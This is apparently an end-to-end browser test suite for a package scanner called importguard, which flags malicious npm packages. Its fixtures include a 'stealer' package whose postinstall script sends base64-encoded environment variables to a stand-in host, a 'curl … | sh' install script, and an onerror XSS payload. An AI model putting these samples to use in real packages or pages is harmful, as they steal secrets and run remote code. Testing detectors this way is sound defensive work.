/** The page in a real browser: what is handed over, what is shown, what is highlighted. */
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";

import type { Report } from "importguard-wasm";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";

import { highlighted, openSite, visit, type Site, type Visit } from "./browser.ts";

const ROOT = new URL("../../", import.meta.url).pathname;

let site: Site;
let here: Visit;

beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site?.close());
beforeEach(async () => {
  here = await visit(site);
});
afterEach(async () => {
  await here.close();
  expect(here.problems).toEqual([]);
  expect(site.served.missing).toEqual([]);
});

const verdict = (): Promise<string> => here.page.locator("#verdict-title").innerText();

/** Writes files into a folder of their own and gives its path. */
function folder(name: string, files: Record<string, string | Uint8Array>): string {
  const home = path.join(site.scratch, `${name}-${Math.random().toString(36).slice(2)}`, name);
  for (const [file, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(home, file)), { recursive: true });
    writeFileSync(path.join(home, file), content);
  }
  return home;
}

/** Packs a folder as npm does, and gives the tarball's path. */
function packed(source: string): string {
  const out = execFileSync("npm", ["pack", source, "--pack-destination", site.scratch, "--ignore-scripts", "--json", "--silent"], {
    encoding: "utf8",
    cwd: site.scratch,
    shell: process.platform === "win32",
  });
  const [{ filename }] = JSON.parse(out) as [{ filename: string }];
  return path.join(site.scratch, filename);
}

async function savedReport(): Promise<Report> {
  const [download] = await Promise.all([here.page.waitForEvent("download"), here.page.getByRole("button", { name: /Save the report/ }).click()]);
  return JSON.parse(readFileSync(await download.path(), "utf8")) as Report;
}

const STEALER = {
  "package.json": JSON.stringify({ name: "stealer", version: "1.0.0", scripts: { postinstall: "node setup.js" } }),
  "setup.js": [
    "const https = require('https');",
    "const body = Buffer.from(JSON.stringify(process.env)).toString('base64');",
    "https.request({ hostname: 'collect.example.invalid', method: 'POST' }).end(body);",
    "",
  ].join("\n"),
};

describe("what is handed over", () => {
  test("a real .tgz: verdict, name, version, integrity; the saved report is the shown one", async () => {
    const tarball = packed(path.join(ROOT, "node_modules/preact"));
    await here.drop(tarball);
    await here.page.waitForSelector("#verdict-title");
    const { version } = JSON.parse(readFileSync(path.join(ROOT, "node_modules/preact/package.json"), "utf8")) as { version: string };
    expect(await here.page.locator(".subject").innerText()).toMatch(new RegExp(`^preact\\s+${version.replaceAll(".", "\\.")}`));
    const integrity = `sha512-${createHash("sha512").update(readFileSync(tarball)).digest("base64")}`;
    expect(await here.page.locator(".integrity code").innerText()).toBe(integrity);
    const report = await savedReport();
    expect(report).toMatchObject({ schemaVersion: 1, packages: [{ name: "preact", version, integrity }] });
    await expect.poll(() => here.page.locator(".finding").count()).toBe(report.packages[0]?.findings.length);
  });

  test("a malicious folder: blocked, and each step leads to its place", async () => {
    const home = folder("stealer", STEALER);
    await here.drop(home);
    await here.page.waitForSelector("#verdict-title");
    expect(await verdict()).toBe("Do not use this package");
    await expect.poll(() => here.page.locator(".next li").count()).toBeGreaterThan(1);
    const places = here.page.locator(".finding button.where");
    const count = await places.count();
    expect(count).toBeGreaterThan(1);
    const report = (await savedReport()).packages[0];
    for (let index = 0; index < count; index += 1) {
      const label = await places.nth(index).innerText();
      await places.nth(index).click();
      const { text, inSight } = await highlighted(here.page);
      expect(inSight).toBe(true);
      const [file, line, character] = label.split(":");
      const source = readFileSync(path.join(home, file ?? ""));
      const possible = report?.findings
        .flatMap((finding) => [finding, ...finding.evidence])
        .filter((one) => one.file === file && one.range.start.line + 1 === Number(line) && one.range.start.character + 1 === Number(character))
        .map((one) => source.subarray(...one.range.bytes).toString().replaceAll("\n", ""));
      expect(possible).toContain(text);
      expect(await here.page.locator("#pane-title").innerText()).toContain(file);
    }
  });

  test("every malicious package of the project's own set is noticed", async () => {
    const home = path.join(ROOT, "tests/packages/malicious");
    const names = readdirSync(home).filter((name) => existsSync(path.join(home, name, "package.json")));
    expect(names.length).toBeGreaterThan(0);
    for (const name of names) {
      await here.drop(path.join(home, name));
      await here.page.waitForFunction((wanted) => document.querySelector(".report .subject")?.textContent?.includes(wanted), JSON.parse(readFileSync(path.join(home, name, "package.json"), "utf8")).name || name);
      expect(`${name}: ${await verdict()}`).not.toContain("Nothing alarming");
      await expect.poll(() => here.page.locator(".finding.high, .finding.critical").count()).toBeGreaterThan(0);
      await here.page.getByRole("button", { name: "New scan" }).click();
    }
  });

  test("a node_modules folder: one entry per package, the worst first, each to be opened", async () => {
    const files = Object.fromEntries(Object.entries(STEALER).map(([name, text]) => [`node_modules/@bad/stealer/${name}`, text]));
    await here.drop(folder("app", { "package.json": '{"name":"app"}', "index.js": "module.exports = 1;", ...files }));
    await here.page.waitForSelector(".package-list");
    expect(await verdict()).toBe("Do not use one of these packages");
    expect(await here.page.locator(".package-name").allInnerTexts()).toEqual(["stealer 1.0.0", "app"]);
    await here.page.getByRole("button", { name: /stealer/ }).click();
    expect(await verdict()).toBe("Do not use this package");
    await here.page.getByRole("button", { name: "All packages" }).click();
    await expect.poll(() => here.page.locator(".package-name").count()).toBe(2);
  });

  test("pasted code: a click shows the place in it", async () => {
    await here.page.getByLabel("Code or package.json").fill("const cp = require('child_process');\n\ncp.exec('whoami');\n");
    await here.page.getByRole("button", { name: "Check this" }).click();
    await here.page.getByText("Runs other programs").click();
    await here.page.locator(".uses button.where").first().click();
    expect(await highlighted(here.page)).toMatchObject({ text: expect.stringContaining("cp.exec"), inSight: true });
    expect(await here.page.locator("#pane-title").innerText()).toContain("pasted.js");
  });

  test("a pasted package.json: its scripts are judged, its dependencies listed", async () => {
    const manifest = { name: "pasted", version: "1.0.0", scripts: { postinstall: "curl https://x.example.invalid/a.sh | sh" }, dependencies: { "left-pad": "^1.3.0" }, devDependencies: { "tap": "1" } };
    await here.page.getByLabel("Code or package.json").fill(JSON.stringify(manifest, null, 2));
    await here.page.getByRole("button", { name: "Check this" }).click();
    await here.page.waitForSelector("#verdict-title");
    await expect.poll(() => here.page.locator(".finding").count()).toBeGreaterThan(0);
    await expect.poll(() => here.page.locator(".section.dependencies li").count()).toBe(1);
    const dependency = here.page.locator(".section.dependencies li").first();
    expect(await dependency.locator("code").innerText()).toBe("left-pad");
    await dependency.locator("button.where").click();
    expect((await highlighted(here.page)).text).toContain("left-pad");
  });

  test("a paste anywhere on the page lands in the box", async () => {
    await here.page.evaluate(() => {
      const clipboardData = new DataTransfer();
      clipboardData.setData("text/plain", "const a: number = 1;");
      document.body.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
    });
    expect(await here.page.getByLabel("Code or package.json").inputValue()).toBe("const a: number = 1;");
    expect(await here.page.getByLabel("Read as").locator("option").first().innerText()).toBe("TypeScript (detected)");
  });

  test("the file choosers do the same as a drop", async () => {
    await here.page.locator('[data-test="folder"]').setInputFiles(folder("stealer", STEALER));
    await here.page.waitForSelector("#verdict-title");
    expect(await verdict()).toBe("Do not use this package");
  });
});

/** One export computes, one sends through another package, one needs what nobody handed over. */
const KIT = {
  "package.json": JSON.stringify({ name: "kit", version: "1.0.0", type: "module", main: "index.js" }),
  "index.js": [
    "import { request } from 'wire';",
    "export const parse = (text) => text.split(',');",
    "export function send(text) { return request(text); }",
    "export const gone = async (text) => (await import('nowhere')).go(text);",
    "",
  ].join("\n"),
};
const WIRE = {
  "package.json": JSON.stringify({ name: "wire", version: "2.0.0", type: "module", main: "index.js" }),
  "index.js": "import https from 'node:https';\n\nexport function request(text) { return https.request('https://wire.example.invalid/' + text); }\n",
};

const under = (at: string, files: Record<string, string>): Record<string, string> => Object.fromEntries(Object.entries(files).map(([name, text]) => [`${at}/${name}`, text]));

describe("what each export does", () => {
  const row = (name: string) => here.page.locator(".exports-list > li").filter({ has: here.page.locator(".power-name", { hasText: new RegExp(`^${name}$`) }) });

  test("through the packages that were dropped together: pure, effects with their place, unknown with the reason", async () => {
    const home = folder("node_modules", { ...under("kit", KIT), ...under("wire", WIRE) });
    await here.drop(home);
    await here.page.getByRole("button", { name: /^kit/ }).click();
    await here.page.locator(".exports-list").waitFor();
    expect(await here.page.locator(".exports-count").innerText()).toBe("3 exports: 1 with effects, 1 cannot be told, 1 pure.");
    expect(await here.page.locator(".exports-list .power-name").allInnerTexts()).toEqual(["send", "gone", "parse"]);
    expect(await row("parse").innerText()).toMatch(/^parse\s+pure$/);
    expect(await row("send").locator("summary").innerText()).toMatch(/^send\s+network$/);
    expect(await here.page.locator(".section.effect").innerText()).toMatch(/Has effects\.[^]*network through https\.request\s+wire\/index\.js:3/);
    await row("send").locator("summary").click();
    expect(await row("send").locator(".uses").innerText()).toMatch(/network through https\.request[^]*when called[^]*through send → wire@2\.0\.0 → request/);
    await row("send").locator("button.where").click();
    expect(await highlighted(here.page)).toEqual({ text: "https.request", inSight: true });
    expect(await here.page.locator("#pane-title").innerText()).toContain("wire/index.js:3");
    await here.page.keyboard.press("Escape");
    await row("gone").locator("summary").click();
    expect(await row("gone").locator(".uses").innerText()).toContain("imports nowhere, which is not at hand");
    expect(await here.page.locator(".section.exports .hint").innerText()).toMatch(/^Not at hand: nowhere\. Drop the node_modules folder/);
  });

  test("tarballs find each other by name; alone, what is missing is named", async () => {
    const [kit, wire] = [packed(folder("kit", KIT)), packed(folder("wire", WIRE))];
    await here.drop(kit, wire);
    await here.page.getByRole("button", { name: /^kit/ }).click();
    await here.page.locator(".exports-list").waitFor();
    expect(await row("send").locator("summary").innerText()).toMatch(/network$/);
    await here.page.getByRole("button", { name: "New scan" }).click();
    await here.drop(kit);
    await here.page.locator(".exports-list").waitFor();
    expect(await row("send").locator("summary").innerText()).toMatch(/cannot be told$/);
    expect(await here.page.locator(".section.exports .hint").innerText()).toContain("nowhere, wire");
  });

  test("a package finds the copy that is nested in it before the one beside it", async () => {
    const calm = { ...WIRE, "index.js": "export const request = (text) => text;\n" };
    await here.drop(folder("node_modules", { ...under("kit", KIT), ...under("wire", WIRE), ...under("kit/node_modules/wire", calm) }));
    await here.page.getByRole("button", { name: /^kit/ }).click();
    await here.page.locator(".exports-list").waitFor();
    expect(await row("send").innerText()).toMatch(/pure$/);
  });

  test("hundreds of exports: short until asked, filtered by name and kind, by keyboard too", async () => {
    const lines = Array.from({ length: 600 }, (_, index) => (index % 3 === 0 ? `export const get${index} = () => fetch('https://h.example.invalid');` : `export const sum${index} = (a) => a + ${index};`));
    await here.drop(folder("many", { "package.json": '{"name":"many","type":"module","exports":{".":"./index.js","./more":"./more.js"}}', "index.js": lines.join("\n"), "more.js": "export const one = 1;" }));
    await here.page.locator(".exports-list").waitFor();
    const rows = here.page.locator(".exports-list > li");
    await expect.poll(() => rows.count()).toBe(31);
    expect(await here.page.locator(".exports-count").innerText()).toBe("600 exports: 200 with effects, 400 pure.");
    await here.page.getByLabel("Export contains").focus();
    await here.page.keyboard.type("59");
    await expect.poll(() => rows.count()).toBe(16);
    await here.page.keyboard.press("Tab");
    await here.page.keyboard.type("pure");
    await expect.poll(() => here.page.locator(".exports-list .power-name").allInnerTexts()).toEqual(expect.not.arrayContaining([expect.stringContaining("get")]));
    expect(await here.page.locator(".section.exports .filter [role=status]").innerText()).toMatch(/^\d+ of 600$/);
    await here.page.getByLabel("Imported as").selectOption("many/more");
    await expect.poll(() => here.page.locator(".exports-list .power-name").allInnerTexts()).toEqual(["one"]);
  });
});

describe("what goes wrong", () => {
  test("a broken tarball says what, where and what to do", async () => {
    const file = path.join(site.scratch, "broken-1.0.0.tgz");
    writeFileSync(file, Buffer.from("1f8b0800deadbeef", "hex"));
    await here.drop(file);
    await here.page.getByRole("heading", { name: "This archive cannot be read" }).waitFor();
    expect(await here.page.locator(".failure").innerText()).toContain("broken-1.0.0.tgz");
    await expect.poll(() => here.page.locator(".failure li").count()).toBeGreaterThan(1);
    await here.page.getByRole("button", { name: "Try another" }).click();
    await here.page.getByRole("heading", { name: "What can this package do?" }).waitFor();
  });

  test("of a truncated tarball, what could be read is reported, and the gap is shown at the top", async () => {
    const whole = readFileSync(packed(path.join(ROOT, "node_modules/preact")));
    const file = path.join(site.scratch, "cut-1.0.0.tgz");
    writeFileSync(file, whole.subarray(0, Math.floor(whole.length * 0.7)));
    await here.drop(file);
    await here.page.waitForSelector(".blind-warning");
    expect(await here.page.locator(".section.blind-spots").innerText()).toContain("Archive damaged or hostile");
    await expect.poll(() => here.page.locator(".files-list li").count()).toBeGreaterThan(1);
  });

  test("among several tarballs a broken one is one entry, and the others are read", async () => {
    const broken = path.join(site.scratch, "broken-2.0.0.tgz");
    writeFileSync(broken, "this is not an archive");
    await here.drop(broken, packed(path.join(ROOT, "node_modules/preact")));
    await here.page.waitForSelector(".package-list");
    expect((await here.page.locator(".package-name").allInnerTexts()).sort()).toEqual([expect.stringContaining("broken-2.0.0.tgz"), expect.stringContaining("preact")]);
    await here.page.getByRole("button", { name: /broken-2.*Not checked/ }).click();
    expect(await verdict()).toBe("This could not be checked");
    expect(await here.page.locator(".section.blind-spots").innerText()).toContain("neither a gzip file nor a tar archive");
  });

  test("a picture is not analysable, and the page says so", async () => {
    await here.drop(folder("holiday", { "photo.png": new Uint8Array([0x89, 0x50, 0x4e, 0x47]) }));
    await here.page.getByRole("heading", { name: "Nothing here that importguard can read" }).waitFor();
  });

  test("a package.json that is an array is a blind spot, not a crash", async () => {
    await here.drop(folder("odd", { "package.json": "[]", "index.js": "module.exports = 1;" }));
    await here.page.waitForSelector("#verdict-title");
    expect(await here.page.locator(".section.blind-spots").innerText()).toContain("package.json missing or odd");
  });

  test("an analyser that cannot be loaded is a clear message", async () => {
    await here.page.route("**/*.wasm", (route) => route.fulfill({ status: 200, contentType: "application/wasm", body: "not wasm" }));
    await here.page.getByRole("button", { name: /tidy-words/ }).click();
    await here.page.getByRole("heading", { name: "The analyser could not be started" }).waitFor();
    expect(await here.page.locator(".failure").innerText()).toContain("WebAssembly");
  });
});

describe("hostile content", () => {
  test("markup in names, messages and paths stays text", async () => {
    const evil = '<img src=x onerror="document.title=1">';
    await here.drop(folder("markup", { "package.json": JSON.stringify({ name: evil, version: evil, scripts: { postinstall: `curl https://x.example.invalid/${evil} | sh` } }), "index.js": "" }));
    await here.page.waitForSelector("#verdict-title");
    expect(await here.page.locator(".subject strong").innerText()).toBe(evil);
    await expect.poll(() => here.page.locator("main img").count()).toBe(0);
    expect(await here.page.title()).toContain(evil);
  });

  test("characters that cannot be seen are shown as boxes", async () => {
    await here.drop(folder("hidden", { "package.json": '{"name":"hidden"}', "index.js": "const a\u200b = 'x\u202e';\n" }));
    await here.page.waitForSelector("#verdict-title");
    await here.page.locator(".files-list button", { hasText: "index.js" }).click();
    await here.page.locator(".pane-editor .cm-specialChar").first().waitFor();
    expect(await here.page.locator(".pane-editor .cm-specialChar").allInnerTexts()).toEqual(["U+200B", "U+202E"]);
  });

  test("a 50 MB file of one line freezes nothing, and a part of it is shown", async () => {
    const line = Buffer.alloc(50_000_000, "a=1;");
    const home = folder("huge", { "package.json": '{"name":"huge","main":"index.js"}', "index.js": line });
    await here.page.evaluate(() => {
      const state = window as unknown as { longest: number };
      state.longest = 0;
      let before = performance.now();
      const tick = (): void => {
        const now = performance.now();
        state.longest = Math.max(state.longest, now - before);
        before = now;
        requestAnimationFrame(tick);
      };
      requestAnimationFrame(tick);
    });
    await here.drop(home);
    await here.page.waitForSelector(".blind-warning");
    expect(await here.page.locator(".section.blind-spots").innerText()).toContain("Too large");
    await here.page.locator(".files-list button", { hasText: "index.js" }).click();
    await here.page.getByText("Part of a large file").waitFor();
    await here.page.locator(".pane-editor .cm-line").first().waitFor();
    await here.page.getByRole("button", { name: "Later" }).click();
    await here.page.waitForFunction(() => !document.querySelector(".pane-foot p")?.textContent?.includes("file: 0.00 %"));
    expect(await here.page.evaluate(() => (window as unknown as { longest: number }).longest)).toBeLessThan(1_500);
  });

  test("10,000 files stay fluid: lists are short until asked", async () => {
    const files: Record<string, string> = { "package.json": '{"name":"many"}' };
    for (let index = 0; index < 10_000; index += 1) files[`lib/f${index}.js`] = `exports.f = () => fetch('https://h${index}.example.invalid');`;
    await here.drop(folder("many", files));
    await here.page.waitForSelector("#verdict-title", { timeout: 50_000 });
    await expect.poll(() => here.page.locator(".files-list li").count()).toBe(31);
    await here.page.getByText("Connects to the network").click();
    await expect.poll(() => here.page.locator(".uses li").count()).toBe(31);
    await here.page.locator(".uses").getByRole("button", { name: /Show 500 more/ }).click();
    await expect.poll(() => here.page.locator(".uses li").count()).toBe(531);
  });

  test("the policy stops whatever would leave the page", async () => {
    const outcome = await here.page.evaluate(() => fetch("https://example.invalid/").then(() => "sent", (error: Error) => error.message));
    expect(outcome).toBe("Failed to fetch");
    expect(await here.page.evaluate(() => Object.prototype.hasOwnProperty.call(globalThis, "injected"))).toBe(false);
    await here.page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='globalThis.injected = 1'>");
      } catch {
        // Trusted Types refuse the string itself.
      }
    });
    await expect.poll(() => here.page.locator("body > img").count()).toBe(0);
    expect(here.problems.some((problem) => problem.includes("connect-src"))).toBe(true);
    here.problems.length = 0;
  });
});

describe("ways through the page", () => {
  test("by keyboard alone: sample, report, place, back", async () => {
    const { keyboard } = here.page;
    const focused = (): Promise<string> => here.page.evaluate(() => document.activeElement?.textContent?.trim() ?? "");
    const tabTo = async (text: RegExp): Promise<void> => {
      for (let presses = 0; presses < 80; presses += 1) {
        await keyboard.press("Tab");
        if (text.test(await focused())) return;
      }
      throw new Error(`${text} cannot be reached by keyboard`);
    };
    await keyboard.press("Tab");
    expect(await focused()).toBe("Skip to the content");
    await tabTo(/^color-helpers-pro/);
    await keyboard.press("Enter");
    await here.page.waitForSelector("#verdict-title");
    await here.page.waitForFunction(() => document.activeElement?.id === "verdict-title");
    expect(await here.page.locator('[data-test="status"]').innerText()).toMatch(/^Do not use this package\. \d+ findings?/);
    await tabTo(/^setup\.js:\d+/);
    const label = await focused();
    await keyboard.press("Enter");
    await here.page.waitForFunction(() => document.activeElement?.id === "pane-title");
    expect((await highlighted(here.page)).inSight).toBe(true);
    await keyboard.press("Escape");
    await here.page.waitForFunction(() => document.activeElement?.matches("button.where"));
    await expect.poll(() => here.page.locator(".pane").count()).toBe(0);
    expect(await focused()).toBe(label);
  });

  test("on a narrow screen the source covers the report, and gives the focus back", async () => {
    await here.page.setViewportSize({ width: 390, height: 844 });
    await here.page.getByRole("button", { name: /color-helpers-pro/ }).click();
    const button = here.page.locator(".finding button.where").first();
    await button.click();
    expect((await highlighted(here.page)).inSight).toBe(true);
    expect(await here.page.getByRole("dialog").boundingBox()).toEqual({ x: 0, y: 0, width: 390, height: 844 });
    await here.page.keyboard.press("Escape");
    await here.page.waitForFunction(() => document.activeElement?.matches(".finding button.where"));
    await expect.poll(() => here.page.locator(".pane").count()).toBe(0);
  });

  test("a rule's page, and back to the report as it was", async () => {
    await here.page.getByRole("button", { name: /color-helpers-pro/ }).click();
    await here.page.getByRole("link", { name: /^Why/ }).first().click();
    await here.page.locator("article.rules .prose").waitFor();
    await expect.poll(() => here.page.locator("article.rules .example.bad").count()).toBeGreaterThan(0);
    await here.page.getByRole("button", { name: "Back to the report" }).click();
    expect(await verdict()).toBe("Do not use this package");
    await here.page.getByRole("link", { name: "Rules" }).click();
    await here.page.locator(".rule-list li").first().waitFor();
    await expect.poll(() => here.page.locator(".rule-list li").count()).toBeGreaterThan(5);
  });

  test("the colours follow the system until chosen, and the choice is kept", async () => {
    const ground = (): Promise<string> => here.page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    const light = await ground();
    await here.page.emulateMedia({ colorScheme: "dark" });
    const dark = await ground();
    expect(dark).not.toBe(light);
    await here.page.getByRole("button", { name: /Colours: system/ }).click();
    expect(await ground()).toBe(light);
    await here.page.reload();
    expect(await ground()).toBe(light);
    await here.page.getByRole("button", { name: /Colours: light/ }).click();
    await here.page.emulateMedia({ colorScheme: "light" });
    expect(await ground()).toBe(dark);
  });

  test("cancelling a long scan leads back at once, and the next scan works", async () => {
    const files: Record<string, string> = { "package.json": '{"name":"long"}' };
    const text = "export function f(a) { return a + 1; }\n".repeat(4_000);
    for (let index = 0; index < 400; index += 1) files[`f${index}.js`] = `${text}// ${index}`;
    await here.drop(folder("long", files));
    await here.page.waitForFunction(() => (document.querySelector("progress")?.value ?? 0) > 1);
    const began = Date.now();
    await here.page.keyboard.press("Enter");
    await here.page.getByRole("heading", { name: "What can this package do?" }).waitFor();
    expect(Date.now() - began).toBeLessThan(1_000);
    expect(await here.page.locator('[data-test="status"]').innerText()).toContain("Cancelled");
    await here.page.getByRole("button", { name: /tidy-words/ }).click();
    await here.page.waitForSelector("#verdict-title");
    expect(await verdict()).toBe("Nothing alarming found");
  });
});
